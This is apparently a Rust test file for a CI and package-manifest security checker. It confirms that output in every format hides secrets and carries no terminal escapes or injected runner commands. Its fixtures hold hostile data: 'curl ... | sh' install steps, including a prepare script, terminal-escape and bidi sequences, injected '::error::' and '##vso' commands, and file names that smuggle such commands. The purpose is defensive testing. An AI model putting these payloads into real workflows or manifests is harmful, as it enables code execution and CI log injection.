//! What stands in a repository is data: whatever its names and texts hold, no output carries a
//! terminal escape, a command to a CI runner, or the value of a secret.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    reason = "a test fails by panicking"
)]

mod support;

use support::{TODAY, World};

const FORMATS: &[&str] = &["pretty", "concise", "json", "ndjson", "sarif", "github"];

/// Everything that the program says of `app`: each form, in colour as well, and the facts.
fn outputs(world: &World) -> Vec<(String, String)> {
    let mut outputs = Vec::new();
    let mut say = |name: String, arguments: &[&str]| {
        let run = world.run(arguments);
        outputs.push((name, format!("{}{}", run.text(), run.stderr)));
    };
    for format in FORMATS {
        for look in [None, Some("--verbose")] {
            let arguments =
                ["check", "app", "--profile", "strict", "--today", TODAY, "--format", format];
            let arguments: Vec<_> = arguments.into_iter().chain(look).collect();
            say(format!("{format} {}", look.unwrap_or_default()), &arguments);
        }
    }
    say("facts".to_owned(), &["facts", "app"]);
    outputs
}

/// Whether a character can change how a terminal shows others.
fn is_harmful(character: char) -> bool {
    character != '\n' && character.is_control()
        || matches!(character, '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

#[track_caller]
fn assert_no_escapes(name: &str, text: &str) {
    if let Some((at, character)) = text.char_indices().find(|(_, character)| is_harmful(*character))
    {
        let before: String =
            text[..at].chars().rev().take(60).collect::<Vec<_>>().into_iter().rev().collect();
        panic!("{name}: {} behind {before:?}", character.escape_unicode());
    }
}

#[track_caller]
fn assert_harmless(name: &str, text: &str) {
    assert_no_escapes(name, text);
    let own = ["::error ", "::warning ", "::notice "];
    for line in text.lines() {
        // GitHub's runner takes `::name` at the start of a line; of our own form we write three.
        let begins = line.trim_start().starts_with("::");
        assert!(
            !begins || name.starts_with("github") && own.iter().any(|own| line.starts_with(own)),
            "{name}: {line}"
        );
        // `##[name]` and `##vso[name]` are taken anywhere, but in a line that is a command already.
        let mut marks = line.split("##").skip(1);
        let is_command = |rest: &str| {
            rest.trim_start_matches(|c: char| c.is_ascii_alphabetic()).starts_with('[')
        };
        assert!(begins || !marks.any(is_command), "{name}: {line}");
    }
}

const EVIL: &str = "\u{1b}]0;t\u{7}\u{1b}[2J\u{9b}31m\u{202e}gpj\u{2028}##[error]x ##vso[task.complete]x\n::error::x\r::error::x";

/// Text as it stands between double quotes in YAML and JSON.
fn quoted(text: &str) -> String {
    text.chars()
        .map(|character| match character {
            '\n' => "\\n".to_owned(),
            '\r' => "\\r".to_owned(),
            other if other.is_control() || !other.is_ascii() => {
                format!("\\u{:04x}", u32::from(other))
            }
            other => other.to_string(),
        })
        .collect()
}

#[test]
fn text_of_a_repository_is_neutral_in_every_form() {
    let world = World::with_app();
    let evil = quoted(EVIL);
    let workflow = format!(
        "name: \"{evil}\"\non: push\njobs:\n  \"job{evil}\":\n    name: \"{evil}\"\n    runs-on: \"self{evil}\"\n    \
         steps:\n      - uses: \"owner/action@v1{evil}\"\n      - name: \"{evil}\"\n        run: npm install\n      \
         - run: \"curl https://x.example/{evil} | sh\"\n      - run: \"npx tool{evil}\"\n"
    );
    world.write("app/.github/workflows/evil.yml", workflow);
    let manifest = format!(
        "{{\"name\": \"app{evil}\", \"version\": \"1.0.0\", \"scripts\": {{\"prepare\": \"curl https://x.example | sh {evil}\"}}, \
         \"dependencies\": {{\"left{evil}\": \"git+https://git.example/left{evil}\"}}}}"
    );
    world.write("app/package.json", manifest);
    world.write(
        "app/.npmrc",
        "registry=https://registry.npm.example/\u{1b}[2J\u{202e}\n::error::x=1\n",
    );
    let outputs = outputs(&world);
    for (name, text) in &outputs {
        assert_harmless(name, text);
    }
    // The test would be void if the findings did not carry the text.
    let concise = &outputs[2].1;
    for part in [
        "owner/action@v1\\u{1b}]0;t",
        "left\\u{1b}]0;t",
        "##\\[error]x ##vso\\[task.complete]x\\n::error::x",
    ] {
        assert!(concise.contains(part), "{part}: {concise}");
    }
}

#[cfg(target_os = "linux")]
#[test]
fn names_of_files_are_neutral_in_every_form() {
    let world = World::with_app();
    let text = "on: push\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: owner/action@v1\n";
    for name in [
        "a\n::error::x\u{1b}[2J\r.yml",
        "::error::x.yml",
        "##[error]x.yml",
        "b\u{202e}gpj.yml",
        "c%0A::error::x.yml",
        "d,title=x::y.yml",
        "e#line=1.yml",
        "f?g h.yml",
    ] {
        world.write(&format!("app/.github/workflows/{name}"), text);
    }
    world.write("app/n\n::error::x\u{1b}[2J/package.json", "{ no");
    for (name, text) in outputs(&world) {
        assert_harmless(&name, &text);
    }
    // Each is found by its own name, and its place is found in it.
    let report = world.check(&[
        "app",
        "--rule",
        "ci.unpinned_action",
        "--rule",
        "publish.lifecycle_downloads",
    ]);
    let places: Vec<_> = report.findings().into_iter().map(|finding| finding.place).collect();
    let folder = ".github/workflows/";
    let expected = [
        "##[error]x.yml:6:15",
        "::error::x.yml:6:15",
        "a\n::error::x\u{1b}[2J\r.yml:6:15",
        "b\u{202e}gpj.yml:6:15",
        "c%0A::error::x.yml:6:15",
        "ci.yml:7:15",
        "d,title=x::y.yml:6:15",
        "e#line=1.yml:6:15",
        "f?g h.yml:6:15",
    ];
    assert_eq!(places, expected.map(|name| format!("{folder}{name}")));
    assert_eq!(report.problems().len(), 1);
}

#[test]
fn names_of_targets_and_policies_are_neutral_too() {
    let world = World::new();
    world.app("app");
    world.write(
        "::error::x\u{1b}[2J.rego",
        "package own\n\ndeny contains \"\u{1b}[2J\n::error::x\" if {\n",
    );
    world.write("own/p.rego", "package own\n\n# METADATA\n# title: \"\\e[2J ##[error]x\"\ndeny contains \"a\\n::error::b\\u001b[2J\\u202e ##[error]x\"\n");
    for format in FORMATS {
        for policy in ["::error::x\u{1b}[2J.rego", "own"] {
            let run = world.run(&[
                "check",
                "app",
                "::error::no\u{1b}[2J",
                "--policy",
                policy,
                "--format",
                format,
            ]);
            assert_eq!(run.code, Some(2));
            assert_harmless(format, &format!("{}\n{}", run.text(), run.stderr));
        }
    }
    for arguments in [
        &["rules", "--policy", "own"][..],
        &["rules", "--json", "--policy", "own"],
        &["explain", "own", "--policy", "own"],
    ] {
        let run = world.run(arguments);
        assert_no_escapes(arguments[0], &format!("{}\n{}", run.text(), run.stderr));
    }
}

/// Secrets are put together here, so that no scanner takes this file for a leak.
fn token(prefix: &str) -> String {
    format!("{prefix}{}", "aB3dE6gH9jK2".repeat(3))
}

#[track_caller]
fn assert_hidden(world: &World, secrets: &[&str]) {
    let outputs = outputs(world);
    for (name, text) in &outputs {
        for secret in secrets {
            assert!(!text.contains(secret), "{name} shows {secret}: {}", around(text, secret));
        }
    }
}

fn around(text: &str, part: &str) -> String {
    let at = text.find(part).unwrap();
    text[text.floor_char_boundary(at.saturating_sub(200))..].chars().take(300).collect()
}

#[test]
fn a_secret_in_an_rc_file_is_told_by_its_place_alone() {
    let world = World::with_app();
    let npm = token("npm_");
    world.write(
        "app/.npmrc",
        format!(
            "registry=https://me:urlPassw0rd@registry.npm.example/\n\
             //registry.npm.example/:_authToken=hunter2-plain\n\
             //a.npm.example/:_authToken={npm}\n\
             //b.npm.example/:_auth=dXNlcjpodW50ZXIz\n\
             //c.npm.example/:_password=\"aHVudGVyNA==\"\n\
             https-proxy=http://me:pr0xyPassw0rd@proxy.example:8080\n\
             _auth = bGVnYWN5Omh1bnRlcjU=\n"
        ),
    );
    let report = world.check(&["app", "--rule", "install.token_in_file"]);
    let places: Vec<_> = report.findings().into_iter().map(|finding| finding.place).collect();
    assert_eq!(places, [1, 2, 3, 4, 5, 6, 7].map(|line| format!(".npmrc:{line}:1")));
    let secrets = [
        "urlPassw0rd",
        "hunter2",
        &npm,
        "dXNlcjpodW50ZXIz",
        "aHVudGVyNA",
        "pr0xyPassw0rd",
        "bGVnYWN5Omh1bnRlcjU",
    ];
    assert_hidden(&world, &secrets);
}

#[test]
fn a_secret_in_the_environment_of_a_workflow_is_told_by_its_place_alone() {
    let world = World::with_app();
    let (github, aws) = (token("ghp_"), format!("AKIA{}", "ABCD2345".repeat(2)));
    let workflow = format!(
        "on: push\npermissions: {{}}\nenv:\n  CI_LOGIN: {github}\n  NPM_TOKEN: 9f8e7d6c5b4a39281706f5e4d3c2b1a0\njobs:\n  \
         a:\n    runs-on: ubuntu-24.04\n    env:\n      AWS_ID: {aws}\n    steps:\n      - run: npm ci\n        env:\n          \
         NPM_CONFIG__AUTH: dXNlcjpodW50ZXIz\n          NPM_CONFIG_REGISTRY: https://me:urlPassw0rd@registry.npm.example/\n"
    );
    world.write("app/.github/workflows/env.yml", workflow);
    let report = world.check(&["app", "--rule", "ci.hard_coded_credential"]);
    let places: Vec<_> = report.findings().into_iter().map(|finding| finding.place).collect();
    for line in [4, 5, 10] {
        let file = format!(".github/workflows/env.yml:{line}:");
        assert!(places.iter().any(|place| place.starts_with(&file)), "{line}: {places:?}");
    }
    let secrets =
        [&github, "9f8e7d6c5b4a39281706f5e4d3c2b1a0", &aws, "dXNlcjpodW50ZXIz", "urlPassw0rd"];
    assert_hidden(&world, &secrets);
}

#[test]
fn a_secret_in_a_script_or_an_input_is_told_by_its_place_alone() {
    let world = World::with_app();
    let (npm, github) = (token("npm_"), token("ghp_"));
    let workflow = format!(
        "on: push\npermissions: {{}}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      \
         - uses: docker/login-action@v3\n        with:\n          password: hf93hf93hkkz8dkq\n      \
         - uses: owner/action@v1\n        with:\n          github-token: {github}\n      \
         - run: |\n          export NPM_TOKEN={npm}\n          \
         npm config set //registry.npm.example/:_authToken=setByC0nfig\n          \
         npm config set //registry.npm.example/:_authToken spacedByC0nfig\n          \
         echo \"//registry.npm.example/:_authToken=ech0edToken\" > .npmrc\n          \
         npm publish --registry=https://me:urlPassw0rd@registry.npm.example/\n"
    );
    world.write("app/.github/workflows/script.yml", workflow);
    world.write(
        "app/package.json",
        format!(
            "{{\"name\": \"app\", \"version\": \"1.0.0\", \"scripts\": {{\"prepare\": \"NPM_TOKEN={npm} npm view x\"}}, \
             \"dependencies\": {{\"left\": \"git+https://me:dependencyT0ken@git.example/left\"}}, \
             \"publishConfig\": {{\"registry\": \"https://me:publishT0ken@registry.npm.example/\"}}}}"
        ),
    );
    let report = world.check(&["app", "--rule", "ci.hard_coded_credential"]);
    assert_eq!(report.outcome("ci.hard_coded_credential"), "fail");
    let secrets = [
        &npm,
        &github,
        "hf93hf93hkkz8dkq",
        "setByC0nfig",
        "spacedByC0nfig",
        "ech0edToken",
        "urlPassw0rd",
        "dependencyT0ken",
        "publishT0ken",
    ];
    assert_hidden(&world, &secrets);
}
